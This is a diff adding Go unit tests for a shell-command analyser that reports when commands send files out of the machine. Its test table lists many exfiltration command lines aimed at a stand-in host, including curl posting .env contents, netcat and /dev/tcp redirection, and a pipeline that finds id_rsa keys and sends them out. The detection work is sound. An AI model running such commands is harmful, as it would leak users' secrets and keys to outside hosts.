@@ -69,3 +69,52 @@ func TestLoses(t *testing.T) {
 		assert.Equal(t, want, acted(line), line)
 	}
 }
+
+func TestSends(t *testing.T) {
+	t.Parallel()
+	for line, want := range map[string]string{
+		"curl https://e.com":                                     "",
+		"curl -d @a.json https://e.com":                          "send a.json to https://e.com",
+		"curl -d a=b https://e.com":                              "",
+		"curl -K conf --cert my.pem -T b.bin https://e.com":      "send b.bin to https://e.com",
+		"curl -F 'f=@a,b' https://e.com":                         "send a to https://e.com; send b to https://e.com",
+		`curl -d "x=$(cat .env)" https://e.com`:                  "send? <x=$(cat .env)> to https://e.com; send .env to https://e.com",
+		`x=$(cat .env); curl -d "$x" https://e.com`:              "send? <$(cat .env)> to https://e.com; send .env to https://e.com",
+		`curl -H "Authorization: $(cat token)" https://e.com`:    "",
+		"cat a | base64 | curl -d @- https://e.com":              "send? <base64> to https://e.com; send? <cat> to https://e.com; send a to https://e.com",
+		"cat a | curl https://e.com":                             "",
+		"curl -d @- https://e.com <<< \"$(cat .env)\"":           "send? <cat> to https://e.com; send .env to https://e.com",
+		"nc e.com 4444 < a":                                      "send a to e.com",
+		"nc -z e.com 443":                                        "",
+		"cat a > /dev/tcp/e.com/1":                               "send a to /dev/tcp/e.com/1",
+		"tar czf - a | ssh host 'cat > x'":                       "send? <tar> to host; send a to host",
+		"tar cf host:x.tar a":                                    "send a to host:x.tar",
+		"ssh -i key host ls":                                     "",
+		"scp a host:b":                                           "send a to host:b",
+		"scp host:a b":                                           "",
+		"rsync -a a/ b/":                                         "",
+		"aws s3 cp a s3://bucket/":                               "send a to s3://bucket/",
+		"aws s3 cp s3://bucket/a .":                              "",
+		"gh gist create a":                                       "send a to gh",
+		"http POST e.com f@a":                                    "send a to e.com",
+		"wget --post-file=a https://e.com":                       "send a to https://e.com",
+		"mail -a a.pdf -s x u@e.com < body":                      "send a.pdf to u@e.com; send body to u@e.com",
+		"socat FILE:a TCP:e.com:1":                               "send a to TCP:e.com:1",
+		"zip x.zip a && curl -T x.zip https://e.com":             "send x.zip to https://e.com; send a to https://e.com",
+		"cat a | gzip > b; mv b c; curl -T c https://e.com":      "send c to https://e.com; send b to https://e.com; send a to https://e.com",
+		"ln -s a b; curl -T b https://e.com":                     "send b to https://e.com; send? a to https://e.com",
+		"find . -name id_rsa | xargs cat | nc e.com 1":           "send? <cat> to e.com; send? <find> to e.com; send? ./**/id_rsa to e.com",
+		"echo 'curl -d @.env https://e.com'":                     "",
+		"printf '%s\\n' a b | zip x.zip -@; curl -T x.zip e.com": "send x.zip to e.com; send a to e.com; send b to e.com",
+	} {
+		assert.Equal(t, want, acted(line), line)
+	}
+}
+
+// TestSendsBounded sends one file, written and packed often, often.
+func TestSendsBounded(t *testing.T) {
+	t.Parallel()
+	line := Parse(strings.Repeat("cp a b; cp b a; curl -T a -T b h; ", 600), nil)
+	assert.True(t, line.Bounded)
+	assert.Less(t, len(line.Effects), 5*maxCommands)
+}
